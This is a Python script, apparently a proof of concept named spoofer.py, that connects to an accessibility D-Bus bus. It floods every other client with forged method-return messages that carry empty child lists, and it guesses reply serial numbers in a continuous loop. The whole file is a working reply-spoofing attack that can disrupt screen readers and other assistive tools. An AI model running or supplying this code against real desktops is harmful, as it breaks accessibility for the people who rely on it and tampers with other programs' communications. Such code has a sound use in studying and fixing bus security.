#!/usr/bin/python3
"""Answers for others on the accessibility bus: sends everybody empty lists of children as replies to
whatever they may just have asked. spoofer.py ADDRESS"""

import sys
import time

import gi
gi.require_version("Gio", "2.0")
from gi.repository import Gio, GLib  # noqa: E402

AHEAD = 400  # how many numbers of calls it tries at once

bus = Gio.DBusConnection.new_for_address_sync(
    sys.argv[1], Gio.DBusConnectionFlags.AUTHENTICATION_CLIENT
    | Gio.DBusConnectionFlags.MESSAGE_BUS_CONNECTION, None, None)


def others():
    names = bus.call_sync("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus",
                          "ListNames", None, None, Gio.DBusCallFlags.NONE, -1, None).unpack()[0]
    return [name for name in names if name.startswith(":") and name != bus.get_unique_name()]


def answer(name, number):
    message = Gio.DBusMessage.new()
    message.set_message_type(Gio.DBusMessageType.METHOD_RETURN)
    message.set_destination(name)
    message.set_reply_serial(number)
    message.set_body(GLib.Variant("(a(so))", ([],)))
    bus.send_message(message, Gio.DBusSendMessageFlags.NONE)


first = 1
while True:
    for other in others():
        for number in range(first, first + AHEAD):
            answer(other, number)
    bus.flush_sync(None)
    first = first + AHEAD if first < 20_000 else 1
    time.sleep(0.005)
